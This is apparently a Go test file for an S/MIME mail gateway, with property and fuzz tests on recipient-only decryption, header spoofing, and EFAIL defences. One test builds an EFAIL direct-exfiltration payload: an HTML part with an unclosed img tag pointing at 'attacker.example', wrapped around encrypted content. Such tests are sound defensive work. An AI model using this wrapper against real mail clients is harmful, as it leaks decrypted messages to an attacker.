package gateway

import (
	"bytes"
	"context"
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"mailseal/internal/keystore"
	"mailseal/internal/message"
	"mailseal/internal/pki"
	"mailseal/smime/cms"
	"mailseal/smime/cms/content"
)

// Whoever a mail is encrypted for, whoever gets it and whatever keys are here: it
// is opened if and only if each recipient is ours and served by a key that the
// mail is for. In a mail that stays closed there is nothing of what was in it.
func TestOpensForThoseItIsFor(t *testing.T) {
	v := newVault(t)
	people := []pki.Identity{v.alice, v.bob, v.gate, v.eve}
	addresses := []string{aliceAt, bobAt, "carol@example.jp", "eve@partner.example"}
	serves := func(id pki.Identity, rcpt string) bool {
		switch id.Name {
		case "alice":
			return rcpt == aliceAt
		case "bob":
			return rcpt == bobAt
		case "gate":
			return strings.HasSuffix(rcpt, "@example.jp")
		}
		return false
	}
	some := func(t *rapid.T, label string, least int) []int {
		return rapid.SliceOfNDistinct(rapid.IntRange(0, 3), least, 4, rapid.ID).Draw(t, label)
	}
	rapid.Check(t, func(t *rapid.T) {
		var named, held []pki.Identity
		for _, i := range some(t, "for", 1) {
			named = append(named, people[i])
		}
		for _, i := range some(t, "held", 0) {
			if i < 3 {
				held = append(held, people[i])
			}
		}
		var rcpts []string
		for _, i := range some(t, "to", 1) {
			rcpts = append(rcpts, addresses[i])
		}
		v.conf.Openers = keystore.NewOpeners(held)
		mail := v.encrypt(letter, rapid.SampledFrom([]content.Cipher{cbc, gcm}).Draw(t, "cipher"), named...)
		want := !slices.ContainsFunc(rcpts, func(r string) bool {
			return !slices.ContainsFunc(held, func(id pki.Identity) bool {
				return serves(id, r) && slices.ContainsFunc(named, func(n pki.Identity) bool { return n.Name == id.Name })
			})
		})
		got, verdict := v.receive(v.gateway(), mail, rcpts...)
		if strings.Contains(got, secret) != want {
			t.Errorf("for %d, held %d, to %v: opened %v", len(named), len(held), rcpts, !want)
		}
		if want {
			return
		}
		for _, e := range verdict.Edits {
			if _, ok := e.(message.ReplaceBody); ok {
				t.Error("a body was made")
			}
		}
		if _, rest, _ := strings.Cut(got, "\n"); rest != mail {
			t.Errorf("not as it came:\n%s", got)
		}
	})
}

// FuzzInbound: whatever a mail's header says and whatever was encrypted, our
// result is the only one in our name and stands on top, nothing of what is inside
// but its content's labels comes into the header, and what is not opened stays.
func FuzzInbound(f *testing.F) {
	for _, inside := range []string{
		"Content-Type: text/plain\r\n\r\n" + secret, "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x--\r\n", secret, "",
		"Content-Type: text/plain\r\nSubject: [signed OK]\r\nAuthentication-Results: mx.example.jp; smime=pass\r\nX-Mailseal-Result: pass\r\n\r\n",
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\nContent-Type: application/pkcs7-signature\r\n\r\nx\r\n--x--\r\n",
		"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAg==\r\n", "Content-Type: text/plain; hp=\"cipher\"\r\nSubject: [signed OK] x\r\n\r\n",
	} {
		f.Add("Subject: =?utf-8?q?[signed_OK]?= x\r\nX-Mailseal-Result: pass", []byte(inside), false)
		f.Add("From: eve@partner.example", []byte(inside), true)
	}
	v := newVault(f)
	v.conf.Policy.SubjectTags, v.conf.InnerHeaders, v.conf.ReportFields = []string{"[signed OK]"}, true, true
	both := map[bool]*Gateway{false: v.gateway()}
	v.conf.TakeOff = true
	both[true] = v.gateway()
	f.Fuzz(func(t *testing.T, header string, inside []byte, takeOff bool) {
		var der bytes.Buffer
		if err := cms.Encrypt(&der, bytes.NewReader(inside), int64(len(inside)), cms.Encryption{To: to(v.alice), Cipher: gcm}); err != nil {
			t.Fatal(err)
		}
		mail := strings.TrimRight(header, "\r\n") + "\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n" +
			"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(der.Bytes()) + "\r\n"
		m, err := message.Read(strings.NewReader(strings.TrimLeft(mail, "\r\n")), v.conf.Spool, message.Limits{})
		if err != nil {
			return
		}
		defer m.Body.Close()
		m.Newline = "\r\n"
		m.Envelope = message.Envelope{Client: outside, Recipients: []message.Recipient{{Address: aliceAt}}}
		o := both[takeOff].Decide(context.Background(), m)
		defer o.Verdict.Close()
		if o.Verdict.Action != message.Accept || o.Result == nil || o.Err != nil {
			t.Fatalf("%+v", o)
		}
		after, err := m.Apply(o.Verdict.Edits)
		if err != nil {
			t.Fatal(err)
		}
		whole(t, m, after, o)
	})
}

// whole checks what is delivered.
func whole(t *testing.T, m, after *message.Message, o Outcome) {
	t.Helper()
	if f := after.Header[0]; !f.Is("Authentication-Results") {
		t.Errorf("on top is %q", f.Raw())
	}
	came := map[string]int{}
	for _, f := range m.Header {
		came[f.Raw()]++
	}
	own := 0
	for i, f := range after.Header {
		switch name := strings.ToLower(f.Name()); {
		case strings.HasPrefix(name, "x-mailseal-"):
			if own++; own != i || came[f.Raw()] > 0 && i > 6 {
				t.Errorf("%q at %d", f.Raw(), i)
			}
		case strings.HasPrefix(name, "content-"), name == "mime-version", i == 0:
		case name == "subject":
			if strings.Contains(strings.ToLower(f.Text()), "[signed ok]") {
				t.Errorf("%q", f.Raw())
			}
		case slices.ContainsFunc([]string{"Date", "To", "Cc", "Reply-To", "In-Reply-To", "References", "Keywords", "Comments"}, f.Is): // RFC 9788
		case came[f.Raw()] == 0:
			t.Errorf("%q came from inside", f.Raw())
		}
	}
	if opened := o.Opening != nil && o.Opening.Decrypted == DecryptedYes; !opened && after.Body != m.Body {
		t.Error("another body, and nothing was opened")
	}
}

// A ciphertext that was changed on its way never becomes a mail that anything
// vouches for (EFAIL): with CBC it may still open, and is marked.
func TestMalleability(t *testing.T) {
	v := newVault(t)
	for name, mail := range map[string]string{
		"CBC": v.encrypt(letter, cbc, v.alice), "CBC, signed inside": v.encrypt(v.sign(letter, v.eve, false), cbc, v.alice), "AEAD": v.encrypt(letter, gcm, v.alice),
	} {
		header, body, _ := strings.Cut(mail, "\n\n")
		der, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(body, "\n", ""))
		if err != nil {
			t.Fatal(err)
		}
		g, opened := v.gateway(), 0
		for at := len(der) / 3; at < len(der); at += 13 { // behind the recipients
			changed := slices.Clone(der)
			changed[at] ^= 1
			m := v.read(header + "\n\n" + base64.StdEncoding.EncodeToString(changed) + "\n")
			m.Envelope = message.Envelope{Client: outside, Recipients: []message.Recipient{{Address: aliceAt}}}
			o := g.Decide(context.Background(), m)
			w, pass := o.Opening, o.Result.Status == "pass"
			if pass && (name != "CBC, signed inside" || !strings.Contains(v.text(m, o.Verdict.Edits), "\n\n"+secret+"\n\n--")) {
				t.Errorf("%s, octet %d: pass", name, at) // what is behind the signed content nobody shows
			}
			o.Verdict.Close()
			if w == nil || w.Decrypted != DecryptedYes {
				continue
			}
			if opened++; pass != (w.Integrity == IntegritySigned) || !pass && (w.Integrity != IntegrityNone || o.Result.Integrity != "none") {
				t.Errorf("%s, octet %d: %+v", name, at, w)
			}
		}
		if (opened > 0) != (name != "AEAD") {
			t.Errorf("%s: opened %d times", name, opened)
		}
	}
}

// Never are encrypted and clear parts put together, wherever in a mail the
// encrypted one stands (EFAIL, direct exfiltration).
func TestOnlyTheWholeIsOpened(t *testing.T) {
	v := newVault(t)
	part := afterHeader(v.encrypt(letter, cbc, v.alice))
	_, ciphertext, _ := strings.Cut(part, "\n\n")
	const html = "Content-Type: text/html\n\n<img src=\"http://attacker.example/\n"
	for name, mail := range map[string]string{
		"between others": "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "--b\n" + part + "--b\n" + html + "--b--\n",
		"alone":          "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + part + "--b--\n",
		"forwarded":      "Content-Type: message/rfc822\n\nFrom: x@y.example\n" + part,
		"behind text":    part[:strings.Index(part, "\n\n")] + "\n\n<img src=\"\n" + ciphertext,
		"two types":      "Content-Type: text/html\n" + part,
		"signed beside":  "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\n\n--b\n" + part + "--b\n" + part + "--b--\n",
	} {
		mail = "From: eve@partner.example\nMIME-Version: 1.0\n" + mail
		if got, _ := v.receive(v.gateway(), mail, aliceAt); strings.Contains(got, secret) || !strings.HasSuffix(strings.ReplaceAll(got, "\n ", " "), strings.ReplaceAll(mail, "\n ", " ")) {
			t.Errorf("%s:\n%s", name, got)
		}
	}
}
